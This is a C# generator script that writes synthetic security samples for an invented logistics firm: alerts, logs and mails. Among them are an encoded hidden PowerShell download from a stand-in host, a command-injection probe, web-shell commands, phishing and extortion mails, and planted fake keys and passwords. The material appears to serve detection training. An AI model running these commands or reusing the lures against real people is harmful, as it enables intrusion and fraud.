#:property PublishAot=false
// Writes the machine-made part of the security samples: alerts, logs and mails of the invented Kestrel Harbour Logistics.
// Run from the repository root: dotnet run samples/generator/generate.cs [output folder, default samples/security]
// The output depends on nothing but this file: own random numbers, fixed start date, invariant culture, LF line ends.
using System.Globalization;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;

CultureInfo inv = CultureInfo.InvariantCulture;
CultureInfo.CurrentCulture = inv;
string root = args.Length > 0 ? args[0] : Path.Combine("samples", "security");
DateTime start = new(2025, 3, 3, 6, 0, 0, DateTimeKind.Utc);
string[] users = ["astruys", "fmarsh", "ytamberlane", "ocantrell", "jabelsworth", "cbrightwater", "mokonjo", "dpellweather", "trenquist", "shartog"];
string[] stations = ["KHL-WS-0087", "KHL-WS-0142", "KHL-WS-0165", "KHL-WS-0178", "KHL-WS-0211", "KHL-WS-0233", "KHL-LT-0307", "KHL-LT-0319"];
string[] evil = ["cdn-update.example", "kestrel-harbour-login.example", "tide-metrics.example", "browser-patch.example", "pkg-mirror.test"];
string[] usual = ["tides.example", "customs-filing.example", "av-lookup.example", "weather-port.example", "girder-crane.example", "pennant-payroll.example"];

WriteAlerts();
WriteLogs();
WriteMails();

void Save(string folder, string name, string text)
{
    Directory.CreateDirectory(Path.Combine(root, folder));
    File.WriteAllText(Path.Combine(root, folder, name), text.ReplaceLineEndings("\n"), new UTF8Encoding(false));
}

string Json(params (string Key, object Value)[] fields) => "{" + string.Join(",", fields.Select(f =>
    $"\"{f.Key}\":" + (f.Value is int n ? n.ToString(inv) : $"\"{JsonEncodedText.Encode((string)f.Value, JavaScriptEncoder.UnsafeRelaxedJsonEscaping)}\""))) + "}";
string Iso(DateTime t) => t.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", inv);
string Station(Rng r) => r.Pick(stations);
string Address(string host) => $"10.20.{(host.Contains("WS-02", StringComparison.Ordinal) ? 15 : 14)}.{int.Parse(host[^2..], inv)}";
string Outside(Rng r) => $"{r.Pick("192.0.2", "198.51.100", "203.0.113")}.{1 + r.Next(254)}";
string Defang(string domain) => domain.Replace(".", "[.]", StringComparison.Ordinal);

// Fills a log with lines whose times rise from the given day; the planted lines stand at fixed places among the others.
void Log(string name, ulong seed, int day, int count, int gap, Func<Rng, DateTime, string> line, params (int At, Func<DateTime, string> Line)[] planted)
{
    Rng r = new(seed);
    StringBuilder text = new();
    DateTime t = start.AddDays(day);
    for (int i = 0; i < count; i++)
    {
        t = t.AddSeconds(1 + r.Next(gap));
        Func<DateTime, string>? fixedLine = planted.FirstOrDefault(p => p.At == i).Line;
        text.Append(fixedLine is null ? line(r, t) : fixedLine(t)).Append('\n');
    }
    Save("logs", name, text.ToString());
}

void WriteAlerts()
{
    Rng r = new(0x4B484C01);
    StringBuilder text = new();
    for (int i = 0; i < 40; i++)
    {
        string ws = Station(r), user = r.Pick(users), ip = Outside(r), domain = r.Pick(evil), hash = r.Hex(64);
        int count = 20 + r.Next(400), pid = 1000 + 4 * r.Next(2000);
        (string title, string severity, string body) = (i % 12) switch
        {
            0 => ("Script interpreter started by mshta.exe", "high", $"Parent: mshta.exe (pid {pid})\nChild: powershell.exe -nop -w hidden -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes($"iwr hxxps://{domain}/a"))}\nSHA-256 of script block: {hash}\nAction: process tree suspended by Palisade"),
            1 => ("Password spray suspected", "medium", $"Source network: {ip[..ip.LastIndexOf('.')]}.0/24\nDistinct accounts: {count / 8 + 20} within two hours\nGateway: KHL-VPN-01, client string OpenGate 2.1.0\nOne success for this source: {(r.Next(4) == 0 ? "yes, account " + user : "no")}"),
            2 => ("Inbox rule with a name of dots", "medium", $"Mailbox: {user}@kestrelharbour.example\nRule: \"..\" moves messages containing \"remittance\" to RSS Feeds\nCreated from: {ip} through webmail on KHL-MX-01\nUsual country of the user: differs"),
            3 => ("Beacon to a listed control server", "high", $"Destination: {ip}:443, SNI {Defang(domain)}\nRhythm: one connection every {30 + r.Next(90)} s, jitter below 5 per cent\nProcess: rundll32.exe (pid {pid})\nImage hash: {hash}"),
            4 => ("Canary file changed on KHL-FS-02", "critical", $"Share: \\\\KHL-FS-02\\Planning\nFile: 000_do_not_touch.xlsx renamed to 000_do_not_touch.xlsx.slackw\nSession: {user} from {ws} ({Address(ws)}), {count} open files\nAction: session cut, account locked"),
            5 => ("Many service tickets with RC4", "high", $"Controller: KHL-DC-01, event 4769, encryption type 0x17\nRequests: {count / 10 + 12} accounts in under {2 + r.Next(4)} s\nClient: {Address(ws)}\nHoney account svc_oldscan included: {(r.Next(2) == 0 ? "yes" : "no")}"),
            6 => ("Long DNS names", "medium", $"Domain: {Defang("tide-metrics.example")}\nMean name length: {61 + r.Next(60)}, queries: {count * 70}\nRecord types: TXT {50 + r.Next(40)} per cent, the rest NULL and A\nResolver: 10.20.1.53 sinkhole not yet active"),
            7 => ("Web server started a command interpreter", "high", $"Server: KHL-WEB-03, parent w3wp.exe (pid {pid})\nCommand: cmd.exe /c {r.Pick("whoami /all", "dir C:\\inetpub", "type web.config", "net user")}\nLast request: POST /uploads/pod_scan.aspx from {ip}\nMD5 of the page: {r.Hex(32)}"),
            8 => ("Palisade tamper attempt", "medium", $"Command: sc stop PalisadeAgent\nRun by: KHL\\{user} with elevated rights\nResult: denied by tamper protection\nPage a second person after ten minutes without acknowledgement"),
            9 => ("Rejected push requests after correct password", "high", $"Account: {user}-adm\nRejected requests: {3 + r.Next(30)} in {4 + r.Next(15)} minutes\nSource: {ip}\nAutomatic step: account disabled after five rejections"),
            10 => ("Upload to private storage", "low", $"Destination: {Defang("boxharbor.example")} through KHL-PX-01\nVolume: {500 + count * 4} MB in {5 + r.Next(40)} minutes\nCategory of the proxy: business tools\nDo not open personal records without agreement of legal and works council"),
            _ => ("Unsigned library in the Staging folder", "medium", $"Path: C:\\ProgramData\\Palisade\\Staging\\{r.Pick("version.dll", "cryptsp.dll", "wtsapi32.dll")}\nOwner: KHL\\{user}\nSHA-256: {hash}\nRule: PAL-2207, see advisory KHL-ADV-2025-05"),
        };
        string head = $"[{Iso(start.AddHours(i * 7 + r.Next(6)))}] {(i % 3 == 0 ? "Palisade" : "Lantern")} alert, severity {severity}\nHost: {ws} ({Address(ws)})\nUser: {user}\n";
        text.Append(Json(("id", $"ALR-{7001 + i}"), ("title", title), ("text", head + body))).Append('\n');
    }
    Save("alerts", "alerts.jsonl", text.ToString());
}

void WriteLogs()
{
    Log("sshd-auth.log", 11, 0, 58, 90, (r, t) => $"{t.ToString("MMM", inv)} {t.Day,2} {t.ToString("HH:mm:ss", inv)} KHL-JMP-01 sshd[{2000 + r.Next(9000)}]: " + r.Next(6) switch
    {
        0 => $"Accepted publickey for {r.Pick(users)} from 10.20.14.{40 + r.Next(60)} port {40000 + r.Next(20000)} ssh2: ED25519 SHA256:{r.Hex(43)}",
        1 => $"pam_unix(sshd:session): session closed for user {r.Pick(users)}",
        2 => $"Connection closed by authenticating user root {Outside(r)} port {40000 + r.Next(20000)} [preauth]",
        _ => $"Failed password for invalid user {r.Pick("admin", "oracle", "test", "backup", "harbour", "scanner")} from 198.51.100.{60 + r.Next(40)} port {40000 + r.Next(20000)} ssh2",
    });
    Log("windows-security.log", 12, 1, 52, 60, (r, t) => r.Next(5) switch
    {
        0 => Json(("TimeCreated", Iso(t)), ("EventID", 4625), ("Computer", "KHL-DC-01"), ("TargetUserName", r.Pick(users)), ("Status", "0xC000006D"), ("LogonType", 3), ("IpAddress", $"10.20.14.{40 + r.Next(60)}")),
        1 => Json(("TimeCreated", Iso(t)), ("EventID", 4769), ("Computer", "KHL-DC-01"), ("ServiceName", r.Pick("svc_sqlreport", "svc_oldscan", "svc_print")), ("TicketEncryptionType", "0x17"), ("IpAddress", "10.20.14.65")),
        2 => Json(("TimeCreated", Iso(t)), ("EventID", 4688), ("Computer", Station(r)), ("SubjectUserName", r.Pick(users)), ("NewProcessName", "C:\\Windows\\System32\\" + r.Pick("cmd.exe", "net.exe", "rundll32.exe")), ("CommandLine", r.Pick("net group \"Domain Admins\" /domain", "cmd /c dir", "rundll32 perchsvc.dll,Start"))),
        _ => Json(("TimeCreated", Iso(t)), ("EventID", 4624), ("Computer", r.Pick("KHL-FS-02", "KHL-DB-04", "KHL-DC-02")), ("TargetUserName", r.Pick(users)), ("LogonType", r.Next(2) == 0 ? 3 : 10), ("IpAddress", Address(Station(r)))),
    }, (20, t => Json(("TimeCreated", Iso(t)), ("EventID", 4720), ("Computer", "KHL-DC-01"), ("TargetUserName", "ehollister"), ("DisplayName", "Emmeline Hollister"), ("TelephoneNumber", "555-0186"))));
    Log("web-access.log", 13, 2, 58, 25, (r, t) => $"{Outside(r)} - - [{t.ToString("dd/MMM/yyyy:HH:mm:ss", inv)} +0000] " + r.Next(5) switch
    {
        0 => $"\"GET /track?ref=*{r.Next(10)}* HTTP/1.1\" 200 {9000 + r.Next(90000)} \"-\" \"Mozilla/5.0 (compatible; HarbourBot/1.0)\"",
        1 => $"\"POST /uploads/pod_scan.aspx HTTP/1.1\" 200 {300 + r.Next(900)} \"-\" \"Mozilla/5.0 (compatible; HarbourBot/1.0)\"",
        2 => $"\"GET /diag/ping?host=127.0.0.1;id HTTP/1.1\" 404 162 \"-\" \"curl/8.4\"",
        _ => $"\"GET /track?ref=KH{100000 + r.Next(900000)} HTTP/1.1\" 200 {1800 + r.Next(900)} \"https://portal.kestrelharbour.example/\" \"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101\"",
    }, (15, t => $"10.20.5.40 - - [{t.ToString("dd/MMM/yyyy:HH:mm:ss", inv)} +0000] \"GET /api/gate?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJnYXRlLWtpb3NrIiwiaXNzIjoia2hsLWludmVudGVkIiwiZXhwIjoxNzUwMDAwMDAwfQ.2QKbPsg-RwFehGpTsedT-xBaolN6E23m_fLjXsZi2sE HTTP/1.1\" 200 88 \"-\" \"gate-kiosk/2\""),
       (33, t => $"203.0.113.71 - - [{t.ToString("dd/MMM/yyyy:HH:mm:ss", inv)} +0000] \"GET /track?consignee=Barnaby+Thistlewood&street=17+Cooper+Stairs HTTP/1.1\" 200 2204 \"-\" \"Mozilla/5.0\""));
    Log("dns-queries.log", 14, 3, 60, 12, (r, t) => $"{Iso(t)} client 10.20.{r.Pick("14", "15", "30")}.{7 + r.Next(80)}#{30000 + r.Next(30000)} query: " + (r.Next(3) == 0
        ? $"{r.Hex(40)}.{r.Hex(36)}.t{r.Next(9)}.tide-metrics.example IN {r.Pick("TXT", "NULL")} -> NOERROR {120 + r.Next(90)} bytes"
        : $"{r.Pick("www", "api", "mail", "time")}.{(r.Next(6) == 0 ? r.Pick(evil) : r.Pick(usual))} IN {r.Pick("A", "AAAA")} -> {r.Pick("NOERROR", "NOERROR", "NXDOMAIN")} {40 + r.Next(60)} bytes"));
    Log("firewall.log", 15, 4, 60, 20, (r, t) => $"{Iso(t)} fw=KHL-FW-01 rule={r.Pick("1187", "1002", "1040", "2001")} action={r.Pick("allow", "deny", "deny")} proto={r.Pick("tcp", "tcp", "udp")} "
        + (r.Next(2) == 0 ? $"src=10.20.4.31 sport={40000 + r.Next(20000)} dst=203.0.113.88 dport=3333" : $"src={Outside(r)} sport={40000 + r.Next(20000)} dst=10.20.0.5 dport={r.Pick("443", "22", "3389", "445")}") + $" bytes={64 + r.Next(9000)} zone={r.Pick("office", "pier", "server")}");
    Log("proxy.log", 16, 5, 56, 40, (r, t) => $"{Iso(t)} KHL-PX-01 {Address(Station(r))} {r.Pick(users)} {r.Pick("GET", "GET", "POST", "CONNECT")} "
        + $"https://{(r.Next(4) == 0 ? r.Pick(evil) : r.Pick(usual))}/{r.Pick("", "a", "b", "owa/auth", "api/v1/status", "index.html")} {r.Pick("200", "200", "304", "403")} {200 + r.Next(60000)} cat={r.Pick("business", "uncategorised", "update")}",
        (9, t => $"{Iso(t)} KHL-PX-01 10.20.14.78 cvaughn GET https://weather-port.example/v2/tide?key=AIzaKHLfake0nlyQ7vLr2Xm9Tb4Wc8Np1Ys6HdZ 200 1811 cat=business"),
        (30, t => $"{Iso(t)} KHL-PX-01 10.20.14.42 astruys POST https://hotel-pierview.example/book?guest=Isolde+Carmody&phone=555-0191&mail=isolde.carmody@homepost.example 200 912 cat=travel"));
    Log("vpn.log", 17, 6, 54, 200, (r, t) => $"{Iso(t)} KHL-VPN-01 session[{10000 + r.Next(80000)}] user={r.Pick(users)} src={Outside(r)} pool=10.20.40.{10 + r.Next(200)} client=\"{r.Pick("KHL-Connect 5.1", "KHL-Connect 5.1", "OpenGate 2.1.0")}\" "
        + r.Pick("result=success factor=push", "result=failure reason=bad-password", "result=failure reason=push-rejected", "result=closed duration=" + (60 + r.Next(9000))),
        (12, t => $"{Iso(t)} KHL-VPN-01 enrol user=lfarquhar name=\"Leopold Farquhar-Nyland\" phone=555-0160 device=KHL-LT-0307 result=success"));
    Log("sysmon.log", 18, 7, 50, 70, (r, t) => r.Next(3) switch
    {
        0 => $"{Iso(t)} Computer={Station(r)} EventID=1 Image=C:\\Windows\\System32\\{r.Pick("mshta.exe", "rundll32.exe", "wscript.exe")} ParentImage=C:\\Windows\\explorer.exe User=KHL\\{r.Pick(users)} Hashes=SHA256={r.Hex(64)}",
        1 => $"{Iso(t)} Computer={Station(r)} EventID=3 Image=C:\\Users\\Public\\winmgr32.exe Protocol=tcp DestinationIp={Outside(r)} DestinationPort={r.Pick("443", "8080", "53")}",
        _ => $"{Iso(t)} Computer={Station(r)} EventID=11 Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe TargetFilename=C:\\Users\\{r.Pick(users)}\\AppData\\Local\\Perch\\{r.Hex(8)}.dll",
    }, (25, t => $"{Iso(t)} Computer=KHL-WS-0233 EventID=1 Image=C:\\Windows\\System32\\net.exe CommandLine=\"net use \\\\KHL-FS-02\\Scans /user:svc_scan Tide-9FAKE!rq27Lm\" User=KHL\\pier4shift"));
}

void WriteMails()
{
    Rng r = new(0x4B484C02);
    int number = 0;
    foreach ((string file, string sent, string from, string to, string subject, string body) in Mails.All)
    {
        DateTime t = DateTime.ParseExact(sent, "yyyy-MM-dd HH:mm", inv).AddSeconds(r.Next(60));
        string domain = from[(from.IndexOf('@') + 1)..].TrimEnd('>'), inside = "kestrelharbour.example", date = t.ToString("ddd, dd MMM yyyy HH:mm:ss '+0000'", inv);
        bool own = domain == inside, forged = file.Contains("suspect", StringComparison.Ordinal);
        string ip = own ? $"10.20.14.{20 + r.Next(80)}" : Outside(r), id = $"{r.Hex(12)}.{r.Hex(6)}@{domain}";
        string headers = $"""
            Return-Path: <{(forged ? "bounce-" + r.Hex(6) + "@" + domain : from[(from.IndexOf('<') + 1)..].TrimEnd('>'))}>
            Received: from {(own ? Station(r) + "." + inside : "out" + r.Next(9) + "." + domain)} ([{ip}]) by KHL-MX-01.{inside} with ESMTPS id {r.Hex(10)}; {date}
            Authentication-Results: KHL-MX-01.{inside}; spf={(forged ? r.Pick("pass", "softfail") : "pass")} smtp.mailfrom={domain}; dkim={(forged ? "none" : "pass")}; dmarc={(forged ? "fail" : "pass")}
            X-Harbour-Score: {(forged ? 3 + r.Next(2) : 0)}.{r.Next(10)} (threshold 5.0)
            Message-ID: <{id}>
            Date: {date}
            From: {from}
            To: {to}
            Subject: {subject}
            MIME-Version: 1.0
            Content-Type: text/plain; charset=utf-8
            Content-Transfer-Encoding: 8bit
            """;
        Save("mail", $"{++number:00}-{file}.eml", headers + "\n\n" + body + "\n");
    }
}

// xorshift64 with a multiplied seed; the same numbers on each machine.
internal sealed class Rng(ulong seed)
{
    private ulong state = (seed * 0x9E3779B97F4A7C15UL) | 1UL;

    public int Next(int below)
    {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        return (int)((state >> 11) % (ulong)below);
    }

    public string Pick(params string[] items) => items[Next(items.Length)];

    public string Hex(int length) => string.Concat(Enumerable.Range(0, length).Select(_ => "0123456789abcdef"[Next(16)]));
}

internal static class Mails
{
    public static readonly (string File, string Sent, string From, string To, string Subject, string Body)[] All =
    [
        ("suspect-mailbox-quota", "2025-01-14 08:52", "Mail Storage <storage-notice@mailbox-quota.example>", "astruys@kestrelharbour.example", "Your mailbox storage is 97% full", """
            Dear user,

            your mailbox has nearly reached its permitted size. From noon today incoming messages will be returned to their senders. Keep your present size free of charge by confirming your account on the page of your company:
            https://kestrel-harbour-login.example/owa/auth
            The confirmation takes less than a minute. Please do not answer this message, nobody reads the address. Storage desk
            """),
        ("suspect-crane-account", "2025-03-18 14:05", "Accounts <accounts@girderr-crane.example>", "payables@kestrelharbour.example", "Re: Re: invoice 25-0788, new bank", """
            Good afternoon Anneke,

            following on from our exchange below, please note that our bank is closing the branch at which we have kept our account. Invoice 25-0788 over 38,450 euros should go to the new account in the attached letter. Our yearly audit is on Monday, and it would be a great kindness to have it settled before then. I am travelling and hard to reach by phone, mail is best.
            Regards, Roderick Penhallow, Girder Crane Service, 555-0195
            > Anneke Struys wrote: Thank you, the inspection report has arrived and the amount is correct. We pay in the next run.
            """),
        ("suspect-brine-demand", "2025-07-17 09:44", "Tide Desk <brinepayers@tidewall.test>", "info@kestrelharbour.example", "the tide goes out when you pay", """
            You have noticed that your tracking page is under water. We opened the gate and we can close it.

            400 Brine to the wallet named in our next message, before six in the evening, and you will not hear from us again. Each hour after that adds 50. If you call the police, we shall see it, and the water will rise to your customs desk too. You may test our patience or you may answer this mail with the one word AGREED.
            """),
        ("report-button", "2025-01-24 10:15", "Priya Esterhuy <pesterhuy@kestrelharbour.example>", "all-staff@kestrelharbour.example", "The report button is now in webmail too", """
            Dear all,

            from today you will find the button "Report this message" in webmail, at the top right beside the bin. It sends the complete message to the security team and moves it out of your inbox. You cannot break anything with it. If it was a false alarm, you get the message back with a short answer, usually on the same day.
            Several of you looked for this button in January and could not find it. You were right, it was not there. If you have clicked on something already, please do not use the button but call 555-0110 at once, also at night. Nobody will be annoyed.
            Priya Esterhuy, service desk, 555-0121
            """),
        ("portal-test-database", "2025-03-07 15:31", "Olivier Cantrell <ocantrell@kestrelharbour.example>", "mokonjo@kestrelharbour.example", "Test database for the upload check", """
            Hello Maeve,

            for your test of the new upload function I have set up a copy of the portal with made-up shipments. The page is on KHL-TST-02, port 8443. In case you want to look at the rows directly, this is the connection:
            Server=10.20.3.46;Database=TrackingTest;User Id=tester;Password=gH8#FAKEharbour-5kQz;Encrypt=true
            Yes, I know, I should not send that by mail. The secret store does not know the test hosts yet, and I will replace the password as soon as you are done. Try a file with three dots in its name, that one nearly got past me.
            Olivier
            """),
        ("suspect-bill-of-lading", "2025-02-11 07:48", "Documents <docs@harbour-manifests.example>", "fmarsh@kestrelharbour.example", "Corrected B/L 88213, please use this one", """
            Dear customs colleague,

            the bill of lading sent yesterday for container HMNU 882136-4 shows a wrong gross weight. Please use the corrected document and discard the other one; the vessel sails at noon and the declaration must carry the new figure.
            https://cdn-update.example/a/BL_corrected_88213.zip
            The archive opens with a double click. If your computer asks whether you trust the file, choose Open.
            Documents department, Harbour Manifests
            """),
        ("new-starters", "2025-07-21 11:20", "Bettina Graff <bgraff@kestrelharbour.example>", "pesterhuy@kestrelharbour.example", "New colleagues on the first of the month", """
            Dear Priya,

            three people start on the first and need accounts, badges and, in one case, a laptop. Emmeline Hollister joins the customs desk. Her private number for the delivery of the laptop is 555-0186, the address 9 Ropewalk Close, Merrin Bay. Ignatius Bellweather goes to the warehouse at Pier 6, a scanner user only. Private mail: i.bellweather@homepost.example. Seraphina Dunmore replaces Casimir in tariffs. Please give her the customer team "North" and nothing else.
            All three come to the gatehouse at nine. Could somebody fetch them at a quarter past? Emmeline uses a wheelchair, the ramp is on the river side.
            Kind regards, Bettina
            """),
        ("haulier-transfer-key", "2025-03-17 06:40", "Quentin Aldersey <q.aldersey@moorgate-haulage.example>", "cbrightwater@kestrelharbour.example", "Key for the loading list transfer", """
            Hi Callum,

            our side of the transfer is ready. I made the pair of keys for you, so that you do not have the trouble. Here is the private half:
            -----BEGIN EC PRIVATE KEY-----
            MHcCAQEEIFAKEkhl7INVENTEDq9Zr4Lw2Xn8Vb5Tc1Yp6Hs3Jd0UgAoGCCqGSM49
            AwEHoUQDQgAEFAKE0nlyTr41n1ngB7m2Ke5Wd9Qa4Rs8Tf6Yh3Uj1Ik0Lo
            -----END EC PRIVATE KEY-----
            Our server takes connections from 10.20.2.22 only. Ring me on 555-0198 if it does not work, I am in the yard most of the day. Quentin
            """),
        ("payroll-notice", "2025-08-05 15:02", "Data Protection <privacy@pennant-payroll.example>", "bgraff@kestrelharbour.example", "Written notice of a security incident", """
            Dear Ms Graff,

            as discussed by telephone at five past one today, we have to inform you that persons unknown had access to one of our servers. It held the pay slips of 418 of your employees from August 2022 to July 2025. The slips show name, home address, bank details and pay. The interface used has been closed, and an outside firm is examining the server.
            We shall send you the list of people concerned through the agreed channel and not by mail. Your contact is Lavinia Prendergast, 555-0150. We regret what has happened, and also that we needed seven days to tell you.
            """),
        ("scanner-maker-reply", "2025-06-06 09:12", "Product Safety <safety@quillon-devices.example>", "cbrightwater@kestrelharbour.example", "Your finding on the H series", """
            Dear Mr Brightwater,

            thank you for your report. We have been able to repeat what you describe: up to firmware 5.1, scanners of the H series send the user number and the PIN to the gateway without protection. The K series is not concerned.
            Firmware 5.2 is in its final tests and will be ready for you by 13 June. The devices must stay in the dock for 25 minutes, and an interruption makes them start from the beginning, which does no harm. We would like to name you in our notice, if you agree.
            Marguerite Fairholm, product safety, 12 Signal Row, Port Quillon
            """),
    ];
}
